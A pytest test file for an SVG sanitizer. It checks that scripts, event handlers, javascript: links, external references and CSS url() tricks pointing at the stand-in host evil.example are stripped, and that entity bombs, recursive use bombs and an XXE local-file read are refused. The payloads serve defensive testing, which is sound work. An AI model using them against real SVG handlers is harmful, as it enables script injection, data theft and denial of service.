"""Drawings cannot run anything, ask anyone, or keep a browser busy; and still look the same."""

from __future__ import annotations

from base64 import b64encode
from io import BytesIO
from xml.etree import ElementTree as ET

import pytest

from renditions.made import problems_of, quadrants, saved
from teilbar.renditions import inspect, picture_renditions

NAMESPACES = (
    'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" '
    'xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:ev="http://www.w3.org/2001/xml-events"'
)


def drawing(content: str, attributes: str = "", before: str = "") -> bytes:
    return f'{before}<svg {NAMESPACES} viewBox="0 0 9 9" {attributes}>{content}</svg>'.encode()


def cleaned(data: bytes) -> str:
    inspection = inspect(BytesIO(data), "a.svg")
    assert inspection.facts is not None, inspection.problems
    (rendition,) = picture_renditions(data, inspection.facts)
    assert (rendition.kind, rendition.media_type, rendition.suffix) == ("svg", "image/svg+xml", "svg")
    ET.fromstring(rendition.data)  # noqa: S314 - an independent reader of what we wrote ourselves
    return rendition.data.decode()


EVIL = "evil.example"

ATTACKS = {
    "script": '<script>fetch("//evil.example")</script>',
    "script with prefix": '<s:script xmlns:s="http://www.w3.org/2000/svg" href="https://evil.example/x.js"/>',
    "script of HTML": '<h:script xmlns:h="http://www.w3.org/1999/xhtml" src="https://evil.example/x.js"/>',
    "handler": "<rect onclick=\"location='//evil.example'\" width='1' height='1'/>",
    "handler in capitals": "<rect OnLoad=\"location='//evil.example'\"/>",
    "handler by animation": '<rect><set attributeName="onclick" to="location=\'//evil.example\'"/></rect>',
    "events of XML": '<rect ev:event="load" ev:handler="https://evil.example/x"/>',
    "handler element": '<handler type="text/javascript">location="//evil.example"</handler>',
    "link": '<a href="https://evil.example/"><text>hier</text></a>',
    "link with XLink": '<a xlink:href="https://evil.example/"><text>hier</text></a>',
    "link that runs": "<a href=\"javascript:location='//evil.example'\"><text>hier</text></a>",
    "link hidden by a tab": "<a href=\"java&#9;script:location='//evil.example'\"><text>hier</text></a>",
    "link by animation": '<a><animate attributeName="href" to="https://evil.example/"/><text>hier</text></a>',
    "link by animation, XLink": '<a><animate attributeName="xlink:href" values="https://evil.example/;x"/></a>',
    "foreign object": '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>',
    "HTML": '<img xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/x.png"/>',
    "picture": '<image href="https://evil.example/x.png" width="1" height="1"/>',
    "picture, XLink": '<image xlink:href="//evil.example/x.png"/>',
    "picture nearby": '<image href="../evil.example/x.png"/>',
    "drawing in a picture": "<image href=\"data:image/svg+xml,&lt;svg onload='//evil.example'/&gt;\"/>",
    "page in a picture": '<image href="data:text/html;base64,PHNjcmlwdD5ldmlsLmV4YW1wbGU8L3NjcmlwdD4="/>',
    "use of another file": '<use href="https://evil.example/x.svg#a"/>',
    "use of data": '<use href="data:image/svg+xml;base64,PHN2ZyBpZD0nZXZpbC5leGFtcGxlJy8+#a"/>',
    "filter picture": '<filter id="f"><feImage href="https://evil.example/x.png"/></filter>',
    "film": '<video xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/x.mp4"/>',
    "sound": '<audio href="https://evil.example/x.mp3"/>',
    "fill": '<rect fill="url(https://evil.example/x.svg#a)"/>',
    "fill with a fallback": "<rect fill=\"url( 'https://evil.example/x' ) red\"/>",
    "fill in capitals": '<rect fill="URL(//evil.example/x)"/>',
    "mask with escapes": '<rect mask="u\\72l(https://evil.example/x)"/>',
    "cursor": '<rect cursor="url(https://evil.example/x.cur),auto"/>',
    "fill by animation": '<rect><animate attributeName="fill" values="red;url(https://evil.example/x)"/></rect>',
    "style attribute": '<rect style="fill:red;background:url(https://evil.example/x)"/>',
    "style with escapes": '<rect style="fill:\\75 rl(https://evil.example/x)"/>',
    "style with an escaped name": '<rect style="fill\\3a url(https://evil.example/x)"/>',
    "style with a name of escapes": '<rect style="a\\3b fill\\3a ur\\6c\\28\\2f\\2f evil\\2e example\\29 :red"/>',
    "style of HTML": '<style xmlns="http://www.w3.org/1999/xhtml">@import "https://evil.example/x.css";</style>',
    "style with a comment": '<rect style="fill:url(/**/https://evil.example/x)"/>',
    "style with a picture set": "<rect style=\"fill:image-set('https://evil.example/x' 1x)\"/>",
    "style with a variable": '<rect style="--a:url(https://evil.example/x);fill:var(--a)"/>',
    "import": '<style>@import "https://evil.example/x.css";</style>',
    "import after a trick": "<style>@charset 'x'; a{} @import url(https://evil.example/x.css);</style>",
    "font": "<style>@font-face{font-family:a;src:url(https://evil.example/a.woff2)}</style>",
    "style rule": "<style>rect{fill:url(https://evil.example/x#a)}</style>",
    "style rule in a medium": "<style>@media screen{rect{background:url(//evil.example/x)}}</style>",
    "style in CDATA": "<style><![CDATA[rect{background:url(//evil.example/x)}]]></style>",
    "style cut by a comment": "<style>rect{background:ur<!-- -->l(//evil.example/x)}</style>",
    "old code": "<style>rect{behavior:url(#evil.example);-moz-binding:url(#evil.example)}</style>",
    "nested rule": "<style>rect{a{background:url(//evil.example/x)}}</style>",
    "base": '<g xml:base="https://evil.example/"><use href="#a"/></g>',
    "style sheet instruction": '<?xml-stylesheet href="https://evil.example/x.css"?>',
    "editor": '<sodipodi:namedview inkscape:export-filename="/home/evil.example/bild.png"/>',
    "editor's attribute": '<g inkscape:label="evil.example" data-cell="evil.example"/>',
    "metadata": "<metadata><a>evil.example</a></metadata>",
    "comment": "<!-- evil.example -->",
}


@pytest.mark.parametrize("content", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_does_not_get_through(content: str) -> None:
    clean = cleaned(drawing(f'{content}<rect id="bleibt" width="3" height="3"/>'))
    assert EVIL not in clean
    assert "javascript" not in clean
    assert "script" not in clean
    assert 'id="bleibt"' in clean


SILENT = {"editor", "editor's attribute", "metadata", "comment", "style sheet instruction", "base", "events of XML"}
SILENT |= {"nested rule", "style cut by a comment", "style with an escaped name", "style with a comment"}
SILENT |= {"style with a name of escapes"}


@pytest.mark.parametrize("name", sorted(set(ATTACKS) - SILENT))
def test_what_could_be_missed_is_said(name: str) -> None:
    assert problems_of(drawing(ATTACKS[name]), "a.svg") == ["drawing-cleaned"]


@pytest.mark.parametrize("name", ["editor", "editor's attribute", "metadata", "comment"])
def test_what_nobody_misses_is_not_said(name: str) -> None:
    assert problems_of(drawing(ATTACKS[name]), "a.svg") == []


def laughs(levels: int) -> str:
    entities = "".join('<!ENTITY e{} "{}">'.format(n, f"&e{n - 1};" * 10) for n in range(1, levels))
    return f'<!DOCTYPE svg [<!ENTITY e0 "ha">{entities}]>'


def copies(levels: int) -> str:
    groups = ['<g id="g{}">{}</g>'.format(n, f'<use href="#g{n - 1}"/>' * 10) for n in range(1, levels)]
    return '<g id="g0"><rect width="1" height="1"/></g>' + "".join(groups)


REFUSED = {
    "entity bomb": (drawing("<text>&e9;</text>", before=laughs(10)), "drawing-broken"),
    "copy bomb": (drawing(copies(10)), "drawing-too-deep"),
    "a circle of copies": (drawing('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'), "drawing-too-deep"),
    "a copy of itself": (drawing('<g id="a"><use xlink:href="#a"/></g>'), "drawing-too-deep"),
    "a deep tree": (drawing("<g>" * 5000 + "</g>" * 5000), "drawing-broken"),
    "deep brackets": (drawing(f'<rect fill="{"(" * 20_000}"/>'), "drawing-too-deep"),
    "too large": (drawing(f"<text>{'a' * 10_000_000}</text>"), "drawing-too-large"),
    "cut off": (drawing("<g></g>")[:-20], "drawing-broken"),
    "no XML": (b"<svg><g></svg>", "drawing-broken"),
    "without its namespace": (b'<svg viewBox="0 0 9 9"><rect/></svg>', "drawing-broken"),
    "an undeclared prefix": (b'<svg xmlns="http://www.w3.org/2000/svg"><a x:href="#"/></svg>', "drawing-broken"),
}


@pytest.mark.parametrize(("data", "rule"), REFUSED.values(), ids=REFUSED)
def test_what_cannot_be_drawn_is_refused(data: bytes, rule: str) -> None:
    inspection = inspect(BytesIO(data), "a.svg")
    assert inspection.facts is None
    assert [problem.rule for problem in inspection.problems] == [rule]


def test_a_drawing_reads_no_file_of_this_machine(tmp_path_factory: pytest.TempPathFactory) -> None:
    secret = tmp_path_factory.mktemp("files") / "geheim.txt"
    secret.write_text("GEHEIM")
    kind = f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'
    inspection = inspect(BytesIO(drawing("<text>&x;</text>", before=kind)), "a.svg")
    assert inspection.facts is None


def test_a_broken_drawing_names_the_line() -> None:
    data = b'<svg xmlns="http://www.w3.org/2000/svg">\n<g>\n<rect>\n</svg>'
    (problem,) = inspect(BytesIO(data), "a.svg").problems
    assert dict(problem.values)["line_hint"] == "4"


def test_an_editors_entities_are_filled_in() -> None:
    """Illustrator writes its namespaces and styles as entities."""
    kind = '<!DOCTYPE svg [<!ENTITY st0 "fill:#123456;">]>'
    assert "fill:#123456" in cleaned(drawing('<rect style="&st0;"/>', before=kind))


KEPT = {
    "shapes": '<path d="M0 0L5 5z" fill="#a00" stroke-width="2"/>',
    "gradient": '<linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient><rect fill="url(#g)"/>',
    "copy": '<symbol id="s"><circle r="2"/></symbol><use href="#s" x="3"/>',
    "copy with XLink": '<symbol id="s"><circle r="2"/></symbol><use xlink:href="#s" x="3"/>',
    "text": '<text x="1" y="2" font-family="serif">a <tspan dy="1">b</tspan> c</text>',
    "space": '<text xml:space="preserve">  zwei  </text>',
    "names": "<title>Der Kreis</title><desc>Ein Kreis</desc>",
    "movement": '<circle r="1"><animate attributeName="r" values="1;3;1" dur="2s" repeatCount="indefinite"/></circle>',
    "filter": '<filter id="f"><feGaussianBlur stdDeviation="2"/></filter><g filter="url(#f)"/>',
    "turned": '<g transform="rotate(45 3 3)"><rect width="2" height="2"/></g>',
}


@pytest.mark.parametrize("content", KEPT.values(), ids=KEPT)
def test_what_is_a_drawing_stays_as_it_is(content: str) -> None:
    data = drawing(content)
    assert content in cleaned(data)
    assert problems_of(data, "a.svg") == []


STYLES = {
    "declarations": ('<rect style="fill:red;stroke:url(#g)"/>', ["fill:red", "stroke:url(#g)"]),
    "important": ("<style>rect{fill:red !important}</style>", ["fill:red!important"]),
    "medium": ("<style>@media print{rect{fill:red}}</style>", ["@media print{rect{fill:red;}}"]),
    "movement": ("<style>@keyframes a{from{fill:red}to{fill:blue}}</style>", ["from{fill:red;}", "to{fill:blue;}"]),
    "font in the drawing": (
        "<style>@font-face{font-family:a;src:url(data:font/woff2;base64,AAAA) format('woff2')}</style>",
        ["data:font/woff2;base64,AAAA"],
    ),
    "child selector": ("<style>g > rect, .a:hover{fill:red}</style>", ["g > rect, .a:hover", "fill:red"]),
}


@pytest.mark.parametrize(("content", "parts"), STYLES.values(), ids=STYLES)
def test_styles_that_ask_nobody_stay(content: str, parts: list[str]) -> None:
    clean = cleaned(drawing(content)).replace("&gt;", ">")
    assert [part for part in parts if part not in clean] == []
    assert problems_of(drawing(content), "a.svg") == []


def test_text_around_what_goes_stays_in_order() -> None:
    clean = cleaned(drawing("<text>eins<script>x</script> zwei <tspan>drei</tspan><script/> vier</text>"))
    assert "<text>eins zwei <tspan>drei</tspan> vier</text>" in clean


def test_labels_behind_a_foreign_object_are_shown() -> None:
    """Diagram programs write text twice: as HTML, and as SVG for what shows no HTML."""
    clean = cleaned(drawing("<switch><foreignObject><p/></foreignObject><text>Start</text></switch>"))
    assert "<switch><text>Start</text></switch>" in clean


SIZES = [
    ('width="200" height="100"', (200, 100)),
    ('width="200px" height="100px"', (200, 100)),
    ('width="210mm" height="297mm"', (794, 1123)),
    ('width="2in" height="72pt"', (192, 96)),
    ('width="100%" height="100%" viewBox="0 0 640 480"', (640, 480)),
    ('viewBox="0 0 640 480"', (640, 480)),
    ('viewBox="-5,-5,64.4,48"', (64, 48)),
    ('width="320" viewBox="0 0 640 480"', (320, 240)),
    ('height="240" viewBox="0 0 640 480"', (320, 240)),
    ('width="0" height="0" viewBox="0 0 640 480"', (None, None)),
    ('viewBox="0 0 0 480"', (None, None)),
    ('viewBox="0 0 nan 1"', (None, None)),
    ('width="1e9" height="1"', (None, None)),
    ('width="100%" height="50%"', (None, None)),
    ("", (None, None)),
]


@pytest.mark.parametrize(("attributes", "size"), SIZES)
def test_the_size_is_known_and_kept(attributes: str, size: tuple[int | None, int | None]) -> None:
    data = f'<svg xmlns="http://www.w3.org/2000/svg" {attributes}/>'.encode()
    facts = inspect(BytesIO(data), "a.svg").facts
    assert facts is not None
    assert (facts.width, facts.height) == size
    root = ET.fromstring(cleaned(data))  # noqa: S314 - as above
    assert root.attrib == ET.fromstring(data).attrib  # noqa: S314 - written above


def test_a_picture_in_a_drawing_stays_one() -> None:
    inner = b64encode(saved(quadrants(20, 10), "PNG")).decode()
    data = drawing(f'<image width="20" height="10" href="data:image/png;base64,{inner}"/>')
    assert 'href="data:image/png;base64,' in cleaned(data)
    assert problems_of(data, "a.svg") == []
    broken = drawing(f'<image href="data:image/png;base64,{inner[:40]}"/>')
    assert "data:" not in cleaned(broken)
    assert problems_of(broken, "a.svg") == ["drawing-cleaned"]


def test_a_clean_drawing_is_clean_already() -> None:
    first = cleaned(drawing("".join(ATTACKS.values()) + "".join(KEPT.values())))
    assert cleaned(first.encode()) == first
